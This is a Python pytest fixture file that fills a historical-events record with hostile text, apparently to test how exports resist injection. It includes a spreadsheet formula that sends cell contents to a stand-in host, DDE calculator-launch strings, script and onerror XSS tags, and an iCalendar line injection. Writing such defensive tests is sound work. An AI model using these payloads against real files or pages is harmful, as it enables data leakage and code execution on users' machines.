"""A record whose texts try to attack programs that open an export."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

import opcon

if TYPE_CHECKING:
    from tests.conftest import Folder

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
TEXTS = {
    '"The Crown raises forces"': FORMULA,
    '"창설"': '＝1+1 한글, "따옴표"; 쉼표',
    '"The Crown raised forces."': "@SUM(1+1)*cmd|' /C calc'!A0, and a \"quote\"",
    '"Control passes to the League"': SCRIPT,
    '"이양"': "'tis an apostrophe",
    '"The Guard is lent to the Crown"': "+1\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected",
    '"해제"': '-2; a, b\\n c \\ d\n"e"',
    '"notice"\nconfidence = "partly"': None,
    '"The Pact of Land"': "''two, 🛑 and ‮right to left",
    '"They met at Harbour."': "\ttabbed away, {{braces}} ${shell} %s %n &amp; <b>bold</b>",
    '"p. 5"': "=p. 5 | p. 6",
    '"Harbour"': "-Harbour",
}
MORE = """
[[statement]]
id = "speech"
title = "=cmd|'/C calc'!A1"
title_ko = "말"
note = "Somebody spoke."
speaker = "@speaker"
wording = "-wörding | with | bars"
confidence = "recalled"
  [[statement.dates]]
  when = "{when}"
  kind = "held"
  place = "+Harbour"
  [[statement.citations]]
  source = "gazette"
  locator = "'p. 1"
  remark = "-remark"
  copy = "@copy"
"""


@pytest.fixture
def hostile(folder: Folder) -> opcon.Timeline:
    text = (folder.path / "events/1900-.toml").read_text(encoding="utf-8")
    for old, new in TEXTS.items():
        assert old in text
        text = text.replace(old, json.dumps(new, ensure_ascii=False).replace("\u202e", "\\u202e")) if new else text
    folder.write("events/1900-.toml", text + MORE.format(when="1930~"))
    for index, when in enumerate(
        ["[1931-01-01,1931-01-03]", "../1932", "1933/1934~", "1935?", "1936-02-01/..", "9998"]
    ):
        folder.write(f"events/{index}.toml", MORE.format(when=when).replace("speech", f"said-{index}"))
    sources = json.loads((folder.path / "sources.json").read_text())
    sources[0].update(
        title=FORMULA,
        URL='https://example.org/?a=<b>&c="d" e@f.org',
        issued={"date-parts": [[1950], [1953, 7]], "circa": True},
    )
    sources[1].update(
        title=SCRIPT, note="'", editor=[{"literal": "=1"}, {"family": "정", "given": "선구"}], number="-1"
    )
    folder.write("sources.json", json.dumps(sources))
    folder.replace("commands.toml", '"the Crown"', '"=the Crown <i>"')
    folder.replace("commands.toml", 'abbreviation = "Crown"', 'abbreviation = "<Crown>"')
    folder.replace("record.toml", '"An invented record"', '"=An \\"invented\\" record </script>"')
    folder.replace("record.toml", '"CC0-1.0"', '"My own licence, (c) 2020"')
    return folder.appoint(("Ann", "1911", "1914-05"), ("Bob", "1914-05", None))


@pytest.fixture
def with_a_doi(folder: Folder) -> opcon.Timeline:
    """A record in which one source has a DOI and no URL."""
    sources = json.loads((folder.path / "sources.json").read_text())
    sources[0]["DOI"] = "10.1000/a b"
    folder.write("sources.json", json.dumps(sources))
    return folder.load()
